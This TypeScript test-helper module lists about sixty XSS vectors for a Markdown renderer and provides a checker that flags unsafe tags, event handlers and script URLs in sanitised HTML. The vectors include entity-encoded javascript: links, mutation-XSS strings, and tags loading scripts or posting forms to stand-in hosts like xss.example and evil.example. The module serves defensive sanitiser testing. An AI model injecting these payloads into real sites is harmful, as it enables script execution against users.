/**
 * Known XSS vectors (OWASP filter-evasion classics, mutation-XSS, Markdown-specific tricks) and a checker
 * for what must never come out of the Markdown pipeline. Reuse both in page-level tests: put the vector in
 * a Markdown field, render the page, and check the regions that hold rendered Markdown.
 */
export type XssVector = Readonly<{ name: string; markdown: string }>;

const jsEntities =
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;';

export const XSS_VECTORS: readonly XssVector[] = [
  { name: 'script element', markdown: '<script>alert(1)</script>' },
  { name: 'upper-case script with src', markdown: '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>' },
  { name: 'nested script split', markdown: '<scr<script>ipt>alert(1)</script>' },
  { name: 'script between angle brackets', markdown: '<<script>script>alert(1)<</script>/script>' },
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror inside a paragraph', markdown: 'Results: <img src=x onerror=alert(1)> and more' },
  { name: 'img javascript src', markdown: `<IMG SRC="javascript:alert('XSS');">` },
  { name: 'img mixed-case scheme', markdown: `<IMG SRC=JaVaScRiPt:alert('XSS')>` },
  { name: 'img decimal entity-encoded scheme', markdown: `<IMG SRC=${jsEntities}>` },
  { name: 'img tab-split scheme', markdown: `<IMG SRC="jav&#x09;ascript:alert('XSS');">` },
  { name: 'markdown link javascript', markdown: '[x](javascript:alert(1))' },
  { name: 'markdown link mixed case', markdown: '[x](JaVaScRiPt:alert(1))' },
  { name: 'markdown link tab entity', markdown: '[x](java&#x09;script:alert(1))' },
  { name: 'markdown link entity-encoded j', markdown: '[x](&#106;avascript:alert(1))' },
  { name: 'markdown link &colon;', markdown: '[x](javascript&colon;alert(1))' },
  { name: 'markdown link fully entity-encoded', markdown: `[x](${jsEntities})` },
  { name: 'markdown link in angle brackets', markdown: '[x](<javascript:alert(1)>)' },
  { name: 'markdown link with title', markdown: '[x](javascript:alert(1) "title")' },
  { name: 'markdown link javascript comment newline', markdown: '[x](javascript://%0Aalert(1))' },
  { name: 'markdown link vbscript', markdown: '[x](vbscript:msgbox(1))' },
  { name: 'markdown link data html', markdown: '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'markdown image data svg', markdown: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'markdown image javascript', markdown: '![x](javascript:alert(1))' },
  { name: 'markdown image over http', markdown: '![x](http://insecure.example/a.png)' },
  { name: 'markdown image protocol-relative', markdown: '![x](//evil.example/a.png)' },
  { name: 'markdown image backslash host', markdown: '![x](/\\evil.example/a.png)' },
  { name: 'markdown image title injection', markdown: '![x](https://a.example/a.png "x\\" onerror=\\"alert(1)")' },
  { name: 'markdown image alt injection', markdown: '![x" onerror="alert(1)](https://a.example/a.png)' },
  { name: 'markdown link title injection', markdown: '[x](https://a.example "x\\" onmouseover=\\"alert(1)")' },
  { name: 'reference definition javascript', markdown: '[a]: javascript:alert(1)\n\n[click][a]' },
  { name: 'reference definition entity-encoded', markdown: '[a]: &#106;avascript:alert(1)\n\n![img][a] [click][a]' },
  { name: 'autolink javascript', markdown: '<javascript:alert(1)>' },
  { name: 'autolink vbscript', markdown: '<vbscript:msgbox(1)>' },
  { name: 'autolink with tab entity', markdown: '<jav&#x09;ascript:alert(1)>' },
  { name: 'html anchor entity-encoded scheme', markdown: '<a href="&#106;avascript:alert(1)">x</a>' },
  { name: 'html anchor vbscript', markdown: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'html anchor leading spaces and target', markdown: '<a href="  javascript:alert(1)" target="_blank">x</a>' },
  { name: 'html anchor data url', markdown: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)>' },
  { name: 'svg with script', markdown: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg xlink href', markdown: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>' },
  { name: 'iframe javascript', markdown: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'math mXSS', markdown: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'noscript mXSS', markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'details ontoggle', markdown: '<details open ontoggle=alert(1)>' },
  { name: 'body onload', markdown: '<body onload=alert(1)>' },
  { name: 'style import', markdown: "<style>@import 'https://xss.example/x.css';</style>" },
  { name: 'style attribute', markdown: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'html comment hiding script', markdown: '<!-- --><script>alert(1)</script><!-- -->' },
  { name: 'comment-wrapped img', markdown: 'a <!--<img src=x onerror=alert(1)>--> b' },
  { name: 'form action', markdown: '<form action="https://evil.example"><button>go</button></form>' },
  { name: 'input autofocus onfocus', markdown: '<input autofocus onfocus=alert(1)>' },
  { name: 'object data', markdown: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src', markdown: '<embed src="javascript:alert(1)">' },
  { name: 'base href', markdown: '<base href="javascript:alert(1)//">' },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'link stylesheet', markdown: '<link rel=stylesheet href="https://xss.example/x.css">' },
  { name: 'video source onerror', markdown: '<video><source onerror="alert(1)">' },
  { name: 'html block around markdown link', markdown: '<div>\n\n[x](javascript:alert(1))\n\n</div>' },
  { name: 'table cell with img onerror', markdown: '| a |\n|---|\n| <img src=x onerror=alert(1)> |' },
  { name: 'heading with script', markdown: '# <script>alert(1)</script>' },
];

const FORBIDDEN_TAGS = new Set([
  'script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'svg', 'math', 'base', 'meta',
  'link', 'form', 'input', 'button', 'textarea', 'select', 'body', 'html', 'noscript', 'template', 'details',
]); // prettier-ignore

const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'srcset',
  'background',
  'poster',
  'data',
]);

function decode(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_m, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_m, dec: string) => String.fromCodePoint(parseInt(dec, 10)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n')
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/**
 * Lists every unsafe construct in sanitised HTML: forbidden elements, event-handler or style attributes,
 * script-capable URL schemes, and images from anywhere but this site or https. Empty means safe.
 * It reads real tags only (text is escaped, so `&lt;script` is harmless words, not a finding).
 */
export function findUnsafeConstructs(html: string): string[] {
  const problems: string[] = [];
  for (const tag of html.matchAll(/<\s*\/?\s*([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const name = (tag[1] ?? '').toLowerCase();
    const attributes = tag[2] ?? '';
    if (FORBIDDEN_TAGS.has(name)) problems.push(`<${name}> element`);
    for (const attr of attributes.matchAll(/([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g)) {
      const attrName = (attr[1] ?? '').toLowerCase();
      const value = decode(attr[2] ?? attr[3] ?? attr[4] ?? '');
      // eslint-disable-next-line no-control-regex
      const url = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      if (attrName.startsWith('on')) problems.push(`${attrName} handler on <${name}>`);
      if (attrName === 'style') problems.push(`style attribute on <${name}>`);
      if (URL_ATTRIBUTES.has(attrName) && /^(javascript|vbscript|data|livescript):/.test(url)) {
        problems.push(`${attrName}="${value}" on <${name}>`);
      }
      if (name === 'img' && attrName === 'src' && !/^(https:|\/(?![/\\]))/.test(url)) {
        problems.push(`image from outside this site or https: ${value}`);
      }
    }
  }
  return problems;
}

/**
 * The inner HTML of each element carrying `attribute` (default `data-markdown`) in a full page, so page-level
 * tests check rendered Markdown and not the layout's own scripts and forms. Rendered Markdown never contains
 * a <div>, so the first closing tag after the marker ends the region.
 */
export function markdownRegions(pageHtml: string, attribute = 'data-markdown'): string[] {
  const pattern = new RegExp(`<(\\w+)\\b[^>]*\\s${attribute}(?:=(?:"[^"]*"|'[^']*'|[^\\s>]+))?[^>]*>`, 'g');
  const regions: string[] = [];
  for (const open of pageHtml.matchAll(pattern)) {
    const start = (open.index ?? 0) + open[0].length;
    const end = pageHtml.indexOf(`</${open[1]}>`, start);
    regions.push(pageHtml.slice(start, end === -1 ? undefined : end));
  }
  return regions;
}
